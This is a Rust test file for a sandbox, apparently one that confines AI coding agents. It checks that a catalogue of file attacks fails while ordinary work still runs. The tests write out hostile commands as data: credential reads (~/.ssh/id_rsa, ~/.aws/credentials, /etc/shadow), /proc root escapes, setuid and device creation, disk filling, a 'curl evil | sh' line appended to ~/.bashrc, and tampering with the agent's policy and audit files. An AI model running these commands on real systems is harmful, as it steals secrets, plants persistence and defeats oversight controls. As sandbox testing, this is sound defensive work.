//! Which attacks on files does the box stop, and does ordinary work with files go on beside them?
//!
//! Numbers are those of the attack catalogue (F). Every attack has its legitimate twin in the same test.
mod support;
use bartizan_sandbox::{Access, LayerUse, Reason, SyntheticFile, WorkspaceMode};
use std::fs;
use std::os::fd::AsFd;
use std::os::unix::fs::PermissionsExt;
use support::table::stopped;
use support::{HOME, Place, exists, run};

for_everyone! {
    fn f01_keys_of_the_home_directory_are_not_there() {
        let place = Place::new();
        let home = place.path("home");
        for name in [".ssh/id_rsa", ".aws/credentials", ".netrc"] {
            let path = home.join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, "TOP-SECRET").unwrap();
        }
        let mut spec = place.spec(&format!(
            "cat readme.txt; cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc {0}/.ssh/id_rsa {0}/.netrc; \
             cat /root/.ssh/* /home/*/.ssh/*; grep -r TOP-SECRET / --include=id_rsa 2>/dev/null; true",
            home.display()
        ));
        spec.home = home;
        let outcome = run(&spec).succeeded();
        assert_eq!(outcome.stdout, "hello from the host\n");
        assert!(outcome.stderr.matches("No such file").count() >= 5, "{outcome:#?}");
        stopped("F01", "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc", "view: not in the new root", &outcome.stderr);
    }

    fn f02_a_sibling_project_is_not_there() {
        let place = Place::new();
        fs::create_dir(place.path("other")).unwrap();
        fs::write(place.path("other/.env"), "TOKEN=TOP-SECRET").unwrap();
        let outcome = place.run("cat ../other/.env; ls ..; ls -A ~ | wc -l; ls").succeeded();
        assert_eq!(outcome.stdout, "project\n0\nreadme.txt\n");
        stopped("F02", "cat ../other/.env; ls ~", "view: only the workspace; a home of its own", &outcome.stderr);
    }

    fn f03_the_root_seen_through_proc_is_the_boxs_own() {
        let place = Place::new();
        let outcome = place
            .run("cat /proc/self/root/etc/shadow /proc/1/root/etc/shadow; ls /proc/self/root/root /proc/self/root/mnt; \
                  cat /proc/self/cwd/readme.txt; ls /proc/self/cwd/..; ls -d /proc/self/root/usr");
        assert_eq!(outcome.stdout, "hello from the host\nproject\n/proc/self/root/usr\n", "{outcome:#?}");
        stopped("F03", "cat /proc/self/root/etc/shadow, /proc/1/root, ls /proc/self/cwd/..", "view: the root is the box's own", &outcome.stderr);
    }

    fn f03_above_the_root_there_is_nothing_but_the_root() {
        let place = Place::new();
        fs::write(place.path("secret"), "TOP-SECRET").unwrap();
        fs::set_permissions(place.path("secret"), fs::Permissions::from_mode(0o644)).unwrap();
        // A socket: Landlock would not stand in the way of a call to it.
        let listener = std::os::unix::net::UnixListener::bind(place.path("host.sock")).unwrap();
        fs::set_permissions(place.path("host.sock"), fs::Permissions::from_mode(0o777)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let host = place.directory.path().canonicalize().unwrap();
        let outcome = run(&place.python(&format!(
            "import os, socket\n\
             print(os.stat('/')[1:3] == os.stat('/..')[1:3] == os.stat('/../../..')[1:3])\n\
             for path in ['/../etc/shadow', '/../sys', '/../run', '/../..{0}/secret', '/proc/self/root/../sys', '/proc/1/root/../sys']:\n  \
               try: os.stat(path); print('SEEN', path)\n  except OSError: pass\n\
             try: socket.socket(socket.AF_UNIX).connect('/..{0}/host.sock'); print('CALLED')\n\
             except OSError as e: print(e.strerror)\n\
             print([line.split()[4] for line in open('/proc/self/mountinfo')].count('/'))\n\
             print(open('/../..' + os.getcwd() + '/readme.txt').read().strip())",
            host.display()
        )));
        assert_eq!(outcome.stdout, "True\nNo such file or directory\n1\nhello from the host\n", "{outcome:#?}");
        assert!(listener.accept().is_err());
        stopped("F03", "stat /../etc/shadow, connect to /../run/…", "the old root is unmounted", &outcome.stdout);
    }

    fn f05_the_system_is_read_only() {
        let place = Place::new();
        let outcome = place
            .run("for f in /usr/x /etc/x /x /bin/x /usr/bin/x /proc/sys/kernel/x /dev/x /home/x; do touch $f && echo WROTE $f; done; \
                  rm -f /usr/bin/env && echo REMOVED; echo x >> /etc/passwd && echo APPENDED; chmod 777 /usr/bin/env && echo CHMOD; \
                  chmod 600 /dev/null && echo DEVICE; chmod 777 /etc && echo ETC; \
                  touch here ~/here /tmp/here /dev/shm/here && echo fine; echo gone > /dev/null && echo null");
        assert_eq!(outcome.stdout, "fine\nnull\n", "{outcome:#?}");
        assert!(outcome.stderr.contains("Read-only file system"), "{outcome:#?}");
        assert!(!exists("/usr/x".as_ref()) && !exists("/x".as_ref()));
        stopped("F05", "touch, rm, chmod in /usr /etc / /dev /proc/sys", "read-only mounts; Landlock", &outcome.stderr);
    }

    fn f06_the_home_directory_is_the_boxs_own_and_empty() {
        let place = Place::new();
        let home = place.path("home");
        fs::create_dir(&home).unwrap();
        fs::write(home.join(".bashrc"), "original\n").unwrap();
        let mut spec = place.spec("echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc");
        spec.home.clone_from(&home);
        spec.env.retain(|(name, _)| name != "HOME");
        spec.env.push(("HOME".into(), home.clone().into()));
        assert_eq!(run(&spec).succeeded().stdout, "curl evil | sh\n");
        assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "original\n");
        stopped("F06", "echo 'curl evil | sh' >> ~/.bashrc", "view: the home directory is a tmpfs", &fs::read_to_string(home.join(".bashrc")).unwrap());
    }

    fn f07_writing_through_a_symlink_stays_in_the_box() {
        let place = Place::new();
        fs::write(place.path("victim"), "untouched").unwrap();
        std::os::unix::fs::symlink(place.path("victim"), place.workspace.join("link")).unwrap();
        let script = format!(
            "ln -s {} mine; echo x > mine; echo x > link; echo x > /tmp/t; ln -s /tmp/t ok; cat ok",
            place.path("victim").display()
        );
        assert_eq!(place.run(&script).succeeded().stdout, "x\n");
        assert_eq!(fs::read_to_string(place.path("victim")).unwrap(), "untouched");
        stopped("F07", "ln -s of a host file, and write through it", "view: what the link names does not exist", &fs::read_to_string(place.path("victim")).unwrap());
    }

    fn f10_no_hard_link_reaches_out() {
        let place = Place::new();
        fs::write(place.path("netrc"), "TOP-SECRET").unwrap();
        let script = format!(
            "ln {} h; ln /etc/passwd p; ln /usr/bin/env e; ln -P /proc/self/exe x; ls; ln readme.txt twin && cat twin",
            place.path("netrc").display()
        );
        let outcome = place.run(&script).succeeded();
        assert_eq!(outcome.stdout, "readme.txt\nhello from the host\n", "{outcome:#?}");
        stopped("F10", "ln ~/.netrc h; ln /etc/passwd p; ln -P /proc/self/exe x", "view; links never cross mounts", &outcome.stderr);
    }

    fn f22_neither_setuid_nor_devices_come_about() {
        let place = Place::new();
        for mode in [place.spec("").workspace_mode, WorkspaceMode::Direct] {
            let mut spec = place.spec(
                "cp /usr/bin/id s; chmod 4755 s && echo SETUID; chmod u+s s && echo SETUID; chmod 2755 s && echo SETGID; \
                 install -m 4755 s i 2>/dev/null; ls -l s i 2>/dev/null | grep -c '^...s'; \
                 mknod b b 8 0 && echo BLOCK; mknod c c 1 5 && echo CHAR; mknod w c 0 0 && echo WHITEOUT; \
                 python3 -c 'import os; os.open(\"o\", os.O_CREAT | os.O_WRONLY, 0o6755)' 2>/dev/null && echo OPENED; \
                 rm -f s i; mkfifo p && chmod 755 readme.txt && test -p p && rm p && echo fine",
            );
            spec.workspace_mode = mode;
            let outcome = run(&spec).succeeded();
            assert_eq!(outcome.stdout, "0\nfine\n", "{outcome:#?}");
        }
        for entry in fs::read_dir(&place.workspace).unwrap() {
            let mode = entry.unwrap().metadata().unwrap().permissions().mode();
            assert_eq!(mode & 0o6000, 0);
        }
        stopped("F22", "chmod 4755, install -m 4755, mknod b/c, O_CREAT with 06755", "seccomp: no setuid mode, no device; nosuid, nodev", &"no setuid bit, no device, in the layer and on the host");
    }

    fn f23_the_disk_cannot_be_filled() {
        let place = Place::new();
        let mut spec = place.spec(
            "dd if=/dev/zero of=big bs=1M count=100 2>&1 | grep -o 'No space'; stat -c %s big; rm big; \
             dd if=/dev/zero of=~/big bs=1M count=100 2>&1 | grep -o 'No space'; rm ~/big; \
             dd if=/dev/zero of=/dev/shm/big bs=1M count=100 2>&1 | grep -o 'No space'; rm /dev/shm/big; \
             trap '' XFSZ; truncate -s 1T f 2>&1 | grep -o 'File too large'; \
             python3 -c '\nimport errno\nn=0\ntry:\n while n < 50000: open(f\"n{n}\", \"w\").close(); n += 1\nexcept OSError as e: print(errno.errorcode[e.errno], 5000 < n < 20000)'; \
             echo small > small 2>/dev/null; rm -f n1*; echo small > small && cat small",
        );
        spec.workspace_mode = WorkspaceMode::Overlay { size_bytes: 32 << 20, inodes: 10_000 };
        let outcome = run(&spec).succeeded();
        let lines: Vec<_> = outcome.stdout.lines().collect();
        assert_eq!(lines[0], "No space", "{outcome:#?}");
        assert!(lines[1].parse::<u64>().unwrap() <= 32 << 20, "{outcome:#?}");
        assert_eq!(lines[2..], ["No space", "No space", "File too large", "ENOSPC True", "small"], "{outcome:#?}");
        assert_eq!(fs::read_dir(&place.workspace).unwrap().count(), 1);
        stopped("F23", "dd, truncate -s 1T, 50,000 empty files", "tmpfs size and inode caps; RLIMIT_FSIZE", &outcome.stdout);
    }

    fn f24_nothing_of_one_run_is_seen_by_the_next() {
        let place = Place::new();
        let leave = "echo x > /tmp/r; echo x > /dev/shm/r; mkdir -p ~/.cache; echo x > ~/.cache/r; ipcmk -M 4096 >/dev/null; \
                     python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); assert l.mq_open(b\"/q\", 0o102, 0o600, None) >= 0'; \
                     test -e /tmp/r -a -e ~/.cache/r && ipcs -m | grep -c 0x";
        assert_eq!(place.run(leave).succeeded().stdout, "1\n");
        let look = "ls -A /tmp /dev/shm ~ | grep -v : | grep -v '^$' | grep -vE '^(box|home)-'; ipcs -m | grep -c 0x; \
                    python3 -c 'import ctypes; l=ctypes.CDLL(None); print(l.mq_open(b\"/q\", 0))'";
        assert_eq!(place.run(look).succeeded().stdout, "0\n-1\n");
        stopped("F24", "run A leaves files in /tmp, /dev/shm, ~, SysV and POSIX ipc; run B looks", "ipc and mount namespaces, private tmpfs", &"B finds no file, no segment, no queue");
    }

    fn f25_policy_and_certificates_of_ours_cannot_be_written() {
        let place = Place::new();
        fs::create_dir(place.path("state")).unwrap();
        fs::write(place.path("state/audit.db"), "log").unwrap();
        let mut spec = place.spec(&format!(
            "cat /etc/claude-code/managed-settings.json ~/.agent/policy.json; \
             for f in /etc/claude-code/managed-settings.json ~/.agent/policy.json; do \
               echo x > $f && echo WROTE; rm -f $f && echo REMOVED; mv $f $f.old && echo MOVED; chmod 777 $f && echo CHMOD; done; \
             mv /etc/claude-code /etc/x && echo DIRMOVED; ls {}; echo mine > ~/.agent.json && cat ~/.agent.json",
            place.path("state").display()
        ));
        let file = |path: &str, access| SyntheticFile {
            path: path.into(), contents: b"{\"hooks\":1}\n".to_vec(), mode: 0o644, access,
        };
        spec.synthetic = vec![
            file("/etc/claude-code/managed-settings.json", Access::ReadOnly),
            file(&format!("{HOME}/.agent/policy.json"), Access::ReadOnly),
            file(&format!("{HOME}/.agent.json"), Access::Writable),
        ];
        let outcome = run(&spec).succeeded();
        assert_eq!(outcome.stdout, "{\"hooks\":1}\n{\"hooks\":1}\nmine\n", "{outcome:#?}");
        stopped("F25", "write, remove, move our policy, settings, audit log", "view; pinned read-only mounts", &outcome.stderr);
    }

    fn f27_a_crash_leaves_no_core_and_calls_no_helper() {
        let place = Place::new();
        let outcome = place.run(
            "ulimit -c unlimited 2>/dev/null; ulimit -c 0; bash -c 'kill -SEGV $$' 2>/dev/null; echo $?; ls; \
             python3 -c 'import resource as r; r.setrlimit(r.RLIMIT_CORE, (0, 0)); print(r.getrlimit(r.RLIMIT_CORE))'",
        );
        // A core limit of 1 is the one value that keeps a core_pattern pipe from being started.
        assert_eq!(outcome.succeeded().stdout, "139\nreadme.txt\n(1, 1)\n");
        stopped("F27", "ulimit -c unlimited; kill -SEGV", "RLIMIT_CORE of 1 that seccomp keeps", &"139, no core, limit still (1, 1)");
    }

    fn writes_land_in_the_upper_layer_and_nowhere_else() {
        let place = Place::new();
        let spec = place.spec("echo changed > readme.txt; mkdir -p a/b; echo new > a/b/c; exit 0");
        let mut running = support::start(&spec).unwrap();
        let upper = running.upper.take().unwrap();
        support::drain(&mut running).succeeded();
        drop(running);
        let name = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&upper.as_fd()));
        let read = |path: &str| fs::read_to_string(format!("{name}/{path}")).unwrap();
        assert_eq!((read("readme.txt"), read("a/b/c")), ("changed\n".into(), "new\n".into()));
        assert_eq!(fs::read_to_string(place.workspace.join("readme.txt")).unwrap(), "hello from the host\n");
        assert_eq!(fs::read_dir(&place.workspace).unwrap().count(), 1);
    }

    fn a_layer_tells_how_full_it_is() {
        let place = Place::new();
        for (script, full) in [
            ("head -c 10M /dev/zero > f; mkdir -p a/b; echo fine", false),
            ("head -c 100M /dev/zero > f; echo fine", true),
            ("mkdir d; for i in $(seq 3000); do echo > d/$i || break; done; echo fine", true),
        ] {
            let mut spec = place.spec(&format!("{{ {script}; }} 2>/dev/null"));
            spec.workspace_mode = WorkspaceMode::Overlay { size_bytes: 32 << 20, inodes: 2000 };
            let mut running = support::start(&spec).unwrap();
            let upper = running.upper.take().unwrap();
            assert_eq!(support::drain(&mut running).succeeded().stdout, "fine\n");
            let layer = LayerUse::of(upper.as_fd()).unwrap();
            assert_eq!(layer.is_full(), full, "{layer:?}");
            assert_eq!(layer.most_bytes, 32 << 20);
            assert!((2000..2100).contains(&layer.most_inodes) && layer.bytes > 0 && layer.inodes > 2, "{layer:?}");
        }
    }

    fn a_direct_workspace_is_written_with_the_owners_own_user() {
        let place = Place::new();
        let mut spec = place.spec("echo changed > readme.txt; mkdir d; echo new > d/f; stat -c %u readme.txt d/f | uniq");
        spec.workspace_mode = WorkspaceMode::Direct;
        let outcome = run(&spec).succeeded();
        assert_eq!(outcome.stdout.lines().count(), 1, "{outcome:#?}");
        assert_ne!(outcome.stdout.trim(), "65534");
        let owner = |path: &str| std::os::unix::fs::MetadataExt::uid(&fs::metadata(place.workspace.join(path)).unwrap());
        assert_eq!(fs::read_to_string(place.workspace.join("d/f")).unwrap(), "new\n");
        assert_eq!(owner("d/f"), rustix::process::geteuid().as_raw());
        assert_eq!(owner("d"), owner("readme.txt"));
    }

    fn a_read_only_workspace_is_read_only() {
        let place = Place::new();
        let mut spec = place.spec("cat readme.txt; echo x > readme.txt && echo WROTE; touch y && echo MADE; true");
        spec.workspace_mode = WorkspaceMode::ReadOnly;
        assert_eq!(run(&spec).succeeded().stdout, "hello from the host\n");
    }

    fn a_path_pinned_in_the_workspace_cannot_be_changed() {
        let place = Place::new();
        fs::create_dir(place.workspace.join(".bartizan")).unwrap();
        fs::write(place.workspace.join(".bartizan/policy"), "narrow\n").unwrap();
        let mut spec = place.spec(
            "cat .bartizan/policy; echo wide > .bartizan/policy && echo WROTE; touch .bartizan/x && echo MADE; \
             mv .bartizan b && echo MOVED; rm -rf .bartizan 2>/dev/null && echo REMOVED; cat .bartizan/policy; echo x > y && cat y",
        );
        spec.readable.push(place.workspace.join(".bartizan"));
        for mode in [spec.workspace_mode, WorkspaceMode::Direct] {
            spec.workspace_mode = mode;
            assert_eq!(run(&spec).succeeded().stdout, "narrow\nnarrow\nx\n");
        }
        assert_eq!(fs::read_to_string(place.workspace.join(".bartizan/policy")).unwrap(), "narrow\n");
        stopped("F11", "write, rename, remove .bartizan in the workspace, overlay and direct", "read-only mount on the path (EBUSY, EROFS)", &fs::read_to_string(place.workspace.join(".bartizan/policy")).unwrap());
    }

    fn a_readable_path_is_seen_at_its_own_place_and_stays_unwritable() {
        let place = Place::new();
        let tools = place.path("tools");
        fs::create_dir_all(tools.join("bin")).unwrap();
        fs::write(tools.join("bin/tool"), "#!/bin/sh\necho tool\n").unwrap();
        fs::set_permissions(tools.join("bin/tool"), fs::Permissions::from_mode(0o755)).unwrap();
        std::os::unix::fs::symlink(&tools, place.path("current")).unwrap();
        let (path, link) = (tools.display(), place.path("current"));
        let mut spec = place.spec(&format!(
            "{path}/bin/tool; {0}/bin/tool; echo x > {path}/bin/tool && echo WROTE; chmod 777 {path}/bin/tool && echo CHMOD; \
             touch {0}/x && echo MADE; readlink {0}", link.display()
        ));
        spec.readable = vec![link, place.path("absent")];
        let mut running = support::start(&spec).unwrap();
        let report = running.report.to_string();
        let outcome = support::drain(&mut running).succeeded();
        assert_eq!(outcome.stdout, format!("tool\ntool\n{path}\n"));
        assert!(report.contains("absent` does not exist"), "{report}");
    }

    fn git_and_file_moves_work_in_the_overlay() {
        let place = Place::new();
        let outcome = place.run(
            "git init -q . && git config user.email a@b && git config user.name n && git add -A && git commit -qm one && \
             git mv readme.txt r2 && git commit -qm two && git log --oneline | wc -l && \
             mkdir d && mv r2 d/ && mv d e && cat e/r2 && rm -r e && ls | wc -l",
        );
        assert_eq!(outcome.succeeded().stdout, "2\nhello from the host\n0\n");
        assert!(!place.workspace.join(".git").exists());
    }
}

#[test]
fn a_program_that_is_not_there_is_named() {
    let place = Place::new();
    let mut spec = place.spec("");
    spec.program = "/usr/bin/no-such-program".into();
    let error = support::start(&spec).unwrap_err().to_string();
    assert!(error.contains("no-such-program") && error.contains("No such file"), "{error}");
}

#[test]
fn a_file_beyond_the_limit_ends_the_program_and_the_reason_says_so() {
    let place = Place::new();
    let mut spec = place.spec("echo small > s && cat s; exec truncate -s 2M big");
    spec.limits.file_size = 1 << 20;
    let outcome = run(&spec);
    assert_eq!((outcome.stdout.as_str(), outcome.exit.reason), ("small\n", Reason::FileSizeLimit));
    assert_eq!(outcome.exit.code(), 153);
}

#[test]
fn the_reason_of_an_ordinary_end_is_its_exit_code() {
    assert_eq!(Place::new().run("exit 3").exit.reason, Reason::Exited(3));
}
